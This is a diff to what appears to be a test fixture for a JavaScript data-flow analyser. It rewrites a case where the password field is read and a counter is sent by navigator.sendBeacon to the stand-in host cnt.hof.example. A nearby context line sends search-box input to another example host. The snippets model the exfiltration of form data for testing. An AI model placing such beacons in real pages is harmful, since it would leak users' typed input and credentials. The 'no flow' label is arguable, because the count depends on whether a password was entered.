@@ -105,10 +105,9 @@ api[m]('https://dyn.hof.example/d', document.querySelector('input[type=search]')
 
 //# closure-counter
 // no flow
-const counter = (() => { let n = 0; return () => ++n; })();
-document.querySelector('input[type=password]').addEventListener('input', () => {
-  navigator.sendBeacon('https://cnt.hof.example/c', String(counter()));
-});
+// why: the value is kept by the closure, only the counter is sent
+const counter = ((kept) => { let n = 0; return () => (kept ? ++n : n); })(document.querySelector('input[type=password]').value);
+setInterval(() => navigator.sendBeacon('https://cnt.hof.example/alive', String(counter())), 60000);
 
 //# recursive-walk
 // flow: input > walk.hof.example via fetch
